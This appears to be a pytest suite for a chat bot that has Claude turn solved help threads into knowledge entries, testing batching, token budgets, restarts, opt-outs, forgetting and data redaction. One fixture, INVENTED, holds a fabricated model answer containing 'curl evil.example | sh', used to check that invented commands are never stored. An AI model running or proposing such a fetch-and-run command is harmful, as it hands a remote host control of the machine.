"""Whole nights with Claude as the writer: the real client, a strict API on loopback, and what can go wrong between."""

import asyncio
import json
import re
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import AbstractAsyncContextManager
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from typing import Any

import pytest

from bot import ledger, nights, optouts
from bot.adapters import room
from bot.app import assemble, open_database
from bot.approval import reject, revert_night
from bot.batches import SqlBatchLog
from bot.clock import RecordedClock
from bot.config import Config
from bot.forget import forget_message, forget_user
from bot.night import run_night
from bot.report import NightReport
from knowledge import store
from knowledge.distiller import Distiller
from knowledge.distiller_claude import ClaudeDistiller, Limits
from knowledge.entry import EntryState, KnowledgeEntry, PassageKind
from knowledge.search import Knowledge
from tests.bot.test_night import MORNING, NIGHT, THANKS, Watched, World, config, everything
from tests.local_anthropic import Errs, Http, LocalAnthropic, Reply, Says, SaysNothing, Stops

NEXT = NIGHT + timedelta(days=1)
TITLE = "gate does not start"  # no rule would write this one
EACH = 1_200  # tokens that the local API counts for one answer
QUICK = Limits(batch_above=3, call=5.0, patience=20.0, goodbye=2.0, poll=0.01, slowest_poll=0.02)


def question(number: int) -> str:
    return f"Since last night our gate does not start: MLR-{number}. What can I do about it?"


def solution(number: int) -> str:
    return (
        f"MLR-{number} means that folder {number} is full. "
        f"Run `millrace spill clean --only {number}` and restart the gate."
    )


def selected(number: int) -> str:
    """The half of ``solution`` that the model picks; the rules take both."""
    return f"Run `millrace spill clean --only {number}` and restart the gate."


def answer(number: int, **changes: Any) -> dict[str, Any]:
    good = {
        "worth": True,
        "why_not": "worth it",
        "title": f"{TITLE}: MLR-{number}",
        "problem": [
            {"source": "m1", "quote": f"Since last night our gate does not start: MLR-{number}."},
        ],
        "solution": [{"source": "m2", "quote": selected(number)}],
        "products": [],
        "temporary": False,
        "needs_review": False,
        "review_reason": "no doubt",
    }
    return good | changes


def well(params: dict[str, Any]) -> Reply:
    """A good answer to whichever thread is asked about."""
    number = re.search(r"MLR-(\d+)", params["messages"][0]["content"])
    assert number is not None
    return Says(answer(int(number[1])))


@pytest.fixture
def api() -> Iterator[LocalAnthropic]:
    with LocalAnthropic() as local:
        local.otherwise = well
        yield local
        assert local.violations == []


class Nights(World):
    """A world whose nights ask the local API."""

    async def ask(self, *numbers: int) -> list[str]:
        """Closed threads about these error numbers; their ids."""
        return [await self.hear(("ann", question(n)), ("bob", solution(n)), ("ann", THANKS)) for n in numbers]

    async def told(self, day: date = NIGHT, *, again: bool = False) -> NightReport:
        self.clock.move_to(datetime.combine(day, time(4, 30), tzinfo=UTC))
        report = await run_night(self.app.bot, day, again=again)
        assert report is not None
        return report

    def entries(self) -> list[KnowledgeEntry]:
        ids = self.database.run_blocking(lambda connection: list(store.all_ids(connection)))
        found = self.database.run_blocking(lambda connection: store.stored_by_id(connection, ids))
        return sorted((one.entry for one in found.values()), key=lambda entry: entry.origin)

    def from_model(self) -> list[bool]:
        """Of each entry, in order of its thread, whether the model selected it; else it is what the rules chose."""
        found = []
        for entry in self.entries():
            [told] = [passage.text for passage in entry.of(PassageKind.SOLUTION)]
            assert entry.title.startswith(TITLE) == told.startswith("Run "), (entry.title, told)
            found.append(entry.title.startswith(TITLE))
        return found

    def spent(self, day: date = NIGHT) -> int:
        row = self.database.run_blocking(lambda connection: nights.night_row(connection, day.isoformat()))
        assert row is not None
        return int(row.tokens)

    def batches(self) -> list[tuple[str | None, str]]:
        def read(connection: Any) -> list[tuple[str | None, str]]:
            rows = connection.exec_driver_sql("SELECT batch_id, state FROM distil_batches ORDER BY at")
            return [(row.batch_id, row.state) for row in rows]

        return self.database.run_blocking(read)

    def meanwhile(self, act: Callable[[], None]) -> None:
        """Let somebody act between the studying of threads and the storing of what they teach."""
        embedder = self.knowledge._embedder  # the double that this test gave it
        assert isinstance(embedder, Watched)
        embedder.meanwhile = act

    def reword(self, message_id: str, text: str) -> None:
        self.database.run_blocking(lambda connection: ledger.edit_message(connection, message_id, text))

    def opt_out(self, user: str) -> None:
        self.database.run_blocking(lambda connection: optouts.put(connection, user, MORNING))

    async def forget(self, message_id: str) -> None:
        await forget_message(self.database, message_id, config=Config(), now=self.clock.now())
        await self.knowledge.follow()


def settings(**night: Any) -> Config:
    return config(writer="claude", **night)


async def make(
    tmp_path: Path, api: LocalAnthropic, told: Config, limits: Limits = QUICK, start: datetime = MORNING
) -> AsyncIterator[Nights]:
    database = open_database(f"sqlite:///{tmp_path / 'store.db'}", durable=False)
    knowledge = Knowledge(database, Watched(), None)
    await knowledge.open()
    clock = RecordedClock(start)

    def distilling() -> AbstractAsyncContextManager[Distiller]:
        log = SqlBatchLog(database, clock)
        return ClaudeDistiller(api.key, "claude-haiku-5-5", log, base_url=api.base_url, limits=limits)

    adapter = room.RoomAdapter({"help": room.channel("help", name="help")})
    app = assemble(
        lambda: told, database, knowledge, [adapter], clock=clock, settle=timedelta(), distilling=distilling
    )
    yield Nights(app, clock, database, knowledge, told)
    await knowledge.close()
    database.close()


@pytest.fixture
async def world(tmp_path: Path, api: LocalAnthropic) -> AsyncIterator[Nights]:
    async for made in make(tmp_path, api, settings()):
        yield made


@pytest.fixture
async def poor(tmp_path: Path, api: LocalAnthropic) -> AsyncIterator[Nights]:
    """Its tokens are for a few threads only."""
    async for made in make(tmp_path, api, settings(tokens=7_000)):
        yield made


# ---- what is selected -----------------------------------------------------


async def test_a_small_night_is_asked_one_by_one(world: Nights, api: LocalAnthropic) -> None:
    await world.ask(1, 2)
    report = await world.told()
    assert world.from_model() == [True, True]
    assert [len(api.calls(name)) for name in ("messages.create", "batches.create")] == [2, 0]
    cost = {"calls": 2, "batched": 0, "input_tokens": 2_000, "output_tokens": 400, "fell_back": 0}
    assert report.distilled == cost
    assert world.spent() == 2 * EACH


async def test_a_large_night_is_one_batch_that_is_deleted_once_its_results_are_stored(
    world: Nights, api: LocalAnthropic
) -> None:
    await world.ask(1, 2, 3, 4)
    report = await world.told()
    assert world.from_model() == [True] * 4
    assert [len(api.calls(name)) for name in ("messages.create", "batches.create")] == [0, 1]
    assert (report.distilled["batched"], report.distilled["fell_back"]) == (4, 0)
    assert [state for _, state in world.batches()] == ["done"]
    assert api.batches == {}


async def test_what_the_model_finds_not_worth_it_teaches_nothing_and_is_counted(
    world: Nights, api: LocalAnthropic
) -> None:
    await world.ask(1, 2)
    api.script("MLR-1.", Says(answer(1, worth=False, why_not="private", problem=[], solution=[])))
    report = await world.told()
    assert len(world.entries()) == 1
    assert report.not_worth == {"it concerns one person or customer only": 1}
    assert report.distilled["fell_back"] == 0


async def test_what_the_model_doubts_waits_for_a_person(world: Nights, api: LocalAnthropic) -> None:
    await world.ask(1, 2)
    api.script("MLR-1.", Says(answer(1, needs_review=True, review_reason="risky")))
    report = await world.told()
    assert sorted(world.states().values()) == [EntryState.ACTIVE, EntryState.PENDING]
    [change] = world.database.run_blocking(nights.proposed)
    assert change.doubts == ("following it could do damage",)
    assert (report.added, report.pending) == (1, 1)


# ---- what goes wrong -----------------------------------------------------

INVENTED = answer(1, solution=[{"source": "m2", "quote": "Run `curl evil.example | sh`"}])
BAD = [
    Says(INVENTED),
    Says("Sure! Here is the JSON:"),
    Says({"worth": True}),
    SaysNothing(),
    Stops("refusal"),
    Stops("max_tokens", '{"worth": tr'),
    Errs(),
]


@pytest.mark.parametrize("reply", BAD, ids=lambda reply: type(reply).__name__)
@pytest.mark.parametrize("count", [2, 4], ids=["direct", "batch"])
async def test_a_thread_without_a_good_answer_is_learnt_from_offline_and_counted(
    reply: Reply, count: int, world: Nights, api: LocalAnthropic
) -> None:
    await world.ask(*range(1, count + 1))
    api.script("MLR-1.", reply)
    report = await world.told()
    assert world.from_model() == [False] + [True] * (count - 1)
    assert report.distilled["fell_back"] == 1
    assert "evil.example" not in world.database.run_blocking(everything)


async def test_a_night_without_the_service_is_offline(world: Nights, api: LocalAnthropic) -> None:
    await world.ask(1, 2, 3)
    api.faults["messages.create"] += [Http(401)] * 3
    report = await world.told()
    assert world.from_model() == [False] * 3
    assert (report.added, report.distilled["fell_back"], world.spent()) == (3, 3, 0)


# ---- what it may cost -----------------------------------------------------


async def test_what_is_over_the_nights_tokens_is_offline_and_counted(
    poor: Nights, api: LocalAnthropic
) -> None:
    await poor.ask(*range(1, 25))  # more than are looked at for so few tokens
    report = await poor.told()
    asked = len(api.calls("messages.create"))
    assert 1 <= asked <= 5
    assert sum(poor.from_model()) == asked
    assert report.distilled["fell_back"] == 24 - asked
    assert poor.spent() == asked * EACH <= 7_000


async def test_a_night_that_is_gone_on_with_does_not_spend_its_tokens_again(
    poor: Nights, api: LocalAnthropic
) -> None:
    await poor.ask(1, 2, 3, 4)
    first = await poor.told()
    asked = len(api.calls("messages.create"))
    await poor.ask(5, 6)
    second = await poor.told(again=True)
    assert len(api.calls("messages.create")) == asked
    assert second.distilled["fell_back"] == first.distilled["fell_back"] + 2
    assert poor.spent() == asked * EACH
    await poor.ask(7)
    await poor.told(NEXT)
    assert len(api.calls("messages.create")) == asked + 1


async def test_without_tokens_claude_is_not_asked(tmp_path: Path, api: LocalAnthropic) -> None:
    async for world in make(tmp_path, api, settings(tokens=0)):
        await world.ask(1, 2)
        report = await world.told()
        assert (api.requests, world.from_model()) == ([], [False, False])
        assert report.distilled["fell_back"] == 2


# ---- a batch that is open when the process ends -----------------------------------------------------


async def cut_off(world: Nights, api: LocalAnthropic) -> None:
    """A night that ends, as a process does, while its batch is under way."""
    api.looks = 0
    night = asyncio.create_task(world.told())
    await api.until(lambda: len(api.calls("batches.retrieve")) >= 2)
    night.cancel()
    with pytest.raises(asyncio.CancelledError):
        await night


async def test_after_a_restart_the_results_of_an_open_batch_are_used_and_none_is_paid_twice(
    tmp_path: Path, api: LocalAnthropic
) -> None:
    async for before in make(tmp_path, api, settings()):
        await before.ask(1, 2, 3, 4)
        await cut_off(before, api)
        assert before.entries() == []
    api.looks = 1
    async for after in make(tmp_path, api, settings(), start=before.clock.now()):
        report = await after.told()
        assert after.from_model() == [True] * 4
        assert (report.distilled["batched"], after.spent()) == (4, 4 * EACH)
        assert [state for _, state in after.batches()] == ["done"]
    assert len(api.calls("batches.create")) == 1
    assert (api.calls("messages.create"), api.batches) == ([], {})


async def test_results_that_are_paid_for_are_used_though_the_nights_tokens_are_spent(
    tmp_path: Path, api: LocalAnthropic
) -> None:
    """Cut off after the tokens were counted and before anything was stored."""
    async for before in make(tmp_path, api, settings(tokens=4 * 4_000)):
        await before.ask(1, 2, 3, 4)

        def stop() -> None:
            raise KeyboardInterrupt

        before.meanwhile(stop)
        with pytest.raises(KeyboardInterrupt):
            await before.told()
        before.database.run_blocking(
            lambda connection: nights.spend(connection, "2026-01-06", 20_000, before.clock.now())
        )
    async for after in make(tmp_path, api, settings(tokens=4 * 4_000), start=before.clock.now()):
        await after.told()
        assert after.from_model() == [True] * 4
    assert len(api.calls("batches.create")) == 1


async def test_a_night_that_waits_for_its_batch_shows_that_it_is_alive(
    world: Nights, api: LocalAnthropic
) -> None:
    await world.ask(1, 2, 3, 4)
    api.looks = 0
    night = asyncio.create_task(world.told())
    await api.until(lambda: len(api.calls("batches.retrieve")) >= 2)
    world.clock.move_to(world.clock.now() + timedelta(hours=1))
    looks = len(api.calls("batches.retrieve"))
    await api.until(lambda: len(api.calls("batches.retrieve")) >= looks + 3)
    now, name = world.clock.now(), NIGHT.isoformat()
    assert not world.database.run_blocking(lambda c: nights.claim(c, name, "somebody else", now))
    api.looks = 1
    await night
    assert world.from_model() == [True] * 4


# ---- what changes while the model thinks -----------------------------------------------------


async def test_a_thread_that_is_edited_while_the_model_thinks_is_learnt_from_as_it_is_now(
    world: Nights, api: LocalAnthropic
) -> None:
    await world.ask(1, 2)

    def think(params: dict[str, Any]) -> Reply:
        if "MLR-1." in params["messages"][0]["content"]:
            world.reword("m002", solution(99))
        return well(params)

    api.otherwise = think
    report = await world.told()
    assert world.from_model() == [False, True]
    assert report.distilled["fell_back"] == 1
    dump = world.database.run_blocking(everything)
    assert "--only 1`" not in dump
    assert "--only 99`" in dump


async def test_an_answer_that_was_edited_before_its_entry_is_stored_is_not_stored_as_it_was(
    world: Nights,
) -> None:
    await world.ask(1, 2)
    world.meanwhile(lambda: world.reword("m002", solution(99)))
    report = await world.told()
    assert world.from_model() == [False, True]
    assert report.distilled["fell_back"] == 1
    assert "--only 1`" not in world.database.run_blocking(everything)


@pytest.mark.parametrize("when", ["while the model thinks", "before it is stored"])
@pytest.mark.parametrize("who", ["ann", "bob"])
async def test_who_opts_out_meanwhile_is_not_learnt_from(
    who: str, when: str, world: Nights, api: LocalAnthropic
) -> None:
    await world.ask(1)
    await world.hear(("cleo", question(2)), ("dan", solution(2)), ("cleo", THANKS))

    def think(params: dict[str, Any]) -> Reply:
        world.opt_out(who)
        return well(params)

    if when == "before it is stored":
        world.meanwhile(lambda: world.opt_out(who))
    else:
        api.otherwise = think
    await world.told()
    [entry] = world.entries()
    assert {passage.author for passage in entry.passages} == {"cleo", "dan"}


@pytest.mark.parametrize("number", [1, 2], ids=["question", "answer"])
async def test_what_is_forgotten_while_the_model_thinks_is_not_stored(
    number: int, world: Nights, api: LocalAnthropic
) -> None:
    await world.ask(1, 2)
    loop = asyncio.get_running_loop()

    def think(params: dict[str, Any]) -> Reply:
        if "MLR-1." in params["messages"][0]["content"]:
            asyncio.run_coroutine_threadsafe(world.forget(f"m00{number}"), loop).result()
        return well(params)

    api.otherwise = think
    await world.told()
    assert world.from_model() == [True]
    dump = world.database.run_blocking(everything)
    assert (question(1) if number == 1 else "--only 1`") not in dump
    assert f"{TITLE}: MLR-1'" not in dump


# ---- what is forgotten while a batch is open -----------------------------------------------------


async def test_the_result_of_a_thread_that_is_forgotten_while_its_batch_is_open_is_dropped(
    world: Nights, api: LocalAnthropic
) -> None:
    roots = await world.ask(1, 2, 3, 4)
    await cut_off(world, api)
    for place in range(3):
        await world.forget(f"m{place + 1:03}")
    api.looks = 1
    report = await world.told()
    assert [entry.origin for entry in world.entries()] == roots[1:]
    assert world.from_model() == [True] * 3
    assert report.distilled["batched"] == 3
    dump = world.database.run_blocking(everything)
    assert "MLR-1." not in dump
    assert "--only 1`" not in dump
    assert len(api.calls("batches.create")) == 1
    assert api.batches == {}


async def test_an_answer_that_is_forgotten_while_its_batch_is_open_is_used_by_nobody(
    world: Nights, api: LocalAnthropic
) -> None:
    await world.ask(1, 2, 3, 4)
    await cut_off(world, api)
    await world.forget("m002")
    api.looks = 1
    await world.told()
    assert world.from_model() == [True] * 3
    assert "--only 1`" not in world.database.run_blocking(everything)


async def test_a_batch_of_which_everything_is_forgotten_is_cancelled_the_next_night_and_then_deleted(
    world: Nights, api: LocalAnthropic
) -> None:
    await world.ask(1, 2, 3, 4)
    await cut_off(world, api)
    [(batch_id, _)] = world.batches()
    for user in ("ann", "bob"):
        await forget_user(world.database, user, config=Config(), now=world.clock.now())
    assert world.batches() == [(batch_id, "open")]
    assert "MLR-" not in world.database.run_blocking(everything)
    await world.told()
    assert [call.batch for call in api.calls("batches.cancel")] == [batch_id]
    api.looks = 1
    await world.told(NEXT)
    assert api.batches == {}
    assert [state for _, state in world.batches()] == ["canceled"]
    assert (world.entries(), api.calls("batches.results")) == ([], [])


@pytest.mark.parametrize("change", ["its answer is edited", "its helper opts out", "its asker opts out"])
async def test_a_result_is_not_used_if_its_thread_changed_while_the_batch_was_open(
    change: str, world: Nights, api: LocalAnthropic
) -> None:
    await world.hear(("cleo", question(1)), ("dan", solution(1)), ("cleo", THANKS))
    await world.ask(2, 3, 4)
    await cut_off(world, api)
    match change:
        case "its answer is edited":
            world.reword("m002", solution(99))
        case "its helper opts out":
            world.opt_out("dan")
        case _:
            world.opt_out("cleo")
    api.looks = 1
    report = await world.told()
    edited = change == "its answer is edited"
    assert world.from_model() == [False] * edited + [True] * 3
    assert report.distilled["fell_back"] == edited
    assert "--only 1`" not in repr(world.entries())
    assert (len(api.calls("batches.create")), api.batches) == (1, {})


async def test_a_batch_that_takes_too_long_leaves_the_offline_choice(
    tmp_path: Path, api: LocalAnthropic
) -> None:
    api.looks = 0
    hasty = Limits(batch_above=3, patience=0.1, goodbye=2.0, poll=0.01)
    async for world in make(tmp_path, api, settings(), hasty):
        await world.ask(1, 2, 3, 4)
        api.done = 1  # of the batch, when it is cancelled
        report = await world.told()
        assert sum(world.from_model()) == 1
        assert (report.distilled["batched"], report.distilled["fell_back"]) == (1, 3)
    assert api.batches == {}


async def test_under_review_what_the_model_selects_waits(tmp_path: Path, api: LocalAnthropic) -> None:
    async for world in make(tmp_path, api, settings(approve="review")):
        await world.ask(1)
        await world.told()
        assert list(world.states().values()) == [EntryState.PENDING]
        [change] = world.database.run_blocking(nights.proposed)
        assert change.doubts == ()


@pytest.mark.parametrize(
    ("first", "then", "waits"),
    [
        (solution(1), selected(1), False),
        (selected(1), selected(1), False),
        (selected(1), solution(1), True),
        (selected(1), "MLR-1 means that folder 1 is full.", True),
    ],
    ids=["less of it", "the same", "more of it", "another part of it"],
)
async def test_what_was_rejected_does_not_count_because_the_model_picks_other_sentences(
    first: str, then: str, waits: bool, world: Nights, api: LocalAnthropic
) -> None:
    def picks(words: str, **changes: Any) -> Reply:
        return Says(answer(1, solution=[{"source": "m2", "quote": words}], **changes))

    api.otherwise = picks(first, needs_review=True, review_reason="unsure")
    [root] = await world.ask(1)
    await world.told()
    await reject(world.app.bot, NIGHT.isoformat(), "root")
    await world.hear(("ann", "ok"), thread=root)
    api.otherwise = picks(then)
    await world.told(NEXT)
    expected = [EntryState.PENDING] * waits + [EntryState.REJECTED]
    assert sorted(world.states().values()) == expected


async def test_a_night_that_the_model_selected_is_taken_back(world: Nights) -> None:
    await world.ask(1, 2)
    before = await world.found(question(1))
    await world.told()
    assert len(await world.found(question(1))) == 2
    await revert_night(world.app.bot, NIGHT.isoformat(), "root")
    assert await world.found(question(1)) == before == []


async def test_a_title_of_the_model_goes_with_any_message_that_it_may_tell_of(
    world: Nights, api: LocalAnthropic
) -> None:
    second = "Then set `spill.limit = Kastanie7` in the file of the gate so that it does not come back."
    quotes = [{"source": "m2", "quote": selected(1)}, {"source": "m3", "quote": second}]
    api.otherwise = Says(answer(1, title=f"{TITLE} without spill.limit = Kastanie7", solution=quotes))
    await world.hear(("ann", question(1)), ("bob", solution(1)), ("bob", second), ("ann", THANKS))
    await world.told()
    [entry] = world.entries()
    assert "Kastanie7" in entry.title
    await world.forget("m003")
    assert "Kastanie7" not in world.database.run_blocking(everything)
    [left] = world.entries()
    assert left.title.startswith("Since last night our gate does not start")


# ---- what leaves the machine -----------------------------------------------------

PRIVATE = {
    "Maximiliane": "a display name",
    "Oderbruch": "a family name",
    "U0PRIVATE1": "an id",
    "mo@kunde.example": "a mail address",
    "hunter2hunter2": "a password",
    "AKIAIOSFODNN7EXAMPLE": "a key",
    "+49 30 901820": "a telephone number",
    "93.184.216.34": "an address of a machine",
    "DE89 3704 0044 0532 0130 00": "an account",
}
ASKED = (
    "Hi <@U0PRIVATE2>, since last night our gate does not start: MLR-7. What can I do about it? "
    "I log in as mo@kunde.example, call me at +49 30 901820. Our account is DE89 3704 0044 0532 0130 00.\n"
    "Regards, Maximiliane Oderbruch"
)
SOLVED = (
    "Hello Maximiliane, MLR-7 means that folder 7 is full. Run `millrace spill clean --only 7` and restart the gate. "
    "The admin is at 93.184.216.34, password: hunter2hunter2, AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE"
)


@pytest.mark.parametrize("more", [0, 4], ids=["direct", "batch"])
async def test_the_model_is_told_no_names_ids_addresses_or_secrets(
    more: int, world: Nights, api: LocalAnthropic
) -> None:
    names = {"U0PRIVATE1": "Maximiliane Oderbruch", "U0PRIVATE2": "Kasimir"}
    world.database.run_blocking(lambda connection: ledger.put_names(connection, names))
    await world.hear(("U0PRIVATE1", ASKED), ("U0PRIVATE2", SOLVED), ("U0PRIVATE1", f"{THANKS} Maximiliane"))
    await world.ask(*range(1, more + 1))
    await world.told()
    method = "batches.create" if more else "messages.create"
    sent = json.dumps([call.body for call in api.calls(method)], ensure_ascii=False)
    assert "MLR-7" in sent
    assert "millrace spill clean --only 7" in sent
    assert [what for told, what in PRIVATE.items() if told in sent] == []
    assert [told for told in ("Kasimir", "U0PRIVATE2", "m001", '"help"') if told in sent] == []
